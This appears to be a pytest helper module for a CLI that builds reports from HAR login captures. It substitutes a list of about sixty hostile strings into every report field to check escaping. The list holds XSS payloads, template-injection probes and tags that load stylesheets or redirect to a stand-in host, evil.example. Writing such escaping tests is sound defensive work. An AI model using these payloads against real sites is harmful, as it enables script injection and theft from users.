"""What the report is drawn from, as the action hands it over; and hostile texts to put in its place."""

from __future__ import annotations

from collections.abc import Mapping
from enum import Enum
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Cli
from tests.trace.failing import capture

XSS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</details><script>alert(1)</script>",
    "</summary><img src=x onerror=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    "</a></svg><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=submit>",
    "<object data=https://evil.example/x.swf>",
    "<embed src=https://evil.example/x.swf>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table background=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>x",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "{{7*7}}{% for x in y %}{{ cycler.__init__.__globals__ }}",
    "${alert(1)}#{alert(1)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "url(https://evil.example/x)",
    "expression(alert(1))",
    "<a xlink:href='javascript:alert(1)'><text>x</text></a>",
)
CONTROLS = tuple(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)))
_OURS = frozenset(
    {"leg", "kind", "state", "not_seen", "producer_kind", "time", "offset_from", "after", "of", "field", "encoding"}
)


def captured(cli: Cli, monkeypatch: pytest.MonkeyPatch, folder: Path, text: str | None = None) -> dict[str, Any]:
    """The material of a report on a failing login, or on the capture `text`."""
    from wxauth_cli.cli import run

    taken: list[dict[str, Any]] = []

    def take(context: object, material: dict[str, Any], form: str) -> str:
        taken.append(material)
        return ""

    path = folder / "login.har"
    path.write_text(capture() if text is None else text, encoding="utf-8")
    with monkeypatch.context() as patch:
        patch.setattr(run, "draw_report", take)
        cli("trace", "report", str(path), "--output", str(folder / "unused"), exit_code=0)
    (folder / "unused").unlink()
    return taken[0]


def replaced(value: Any, text: str, *, name: str = "") -> Any:
    """The material with `text` in every place where somebody else's text can stand, names of fields included."""
    if isinstance(value, Enum) or name in _OURS:
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, Mapping):
        if name in ("json", "learnt", "header", "claims"):
            return {f"{text}{number}": replaced(item, text) for number, item in enumerate(value.values())}
        return {key: replaced(item, text, name=key) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return [replaced(item, text, name=name if name == "json" else "") for item in value]
    return value
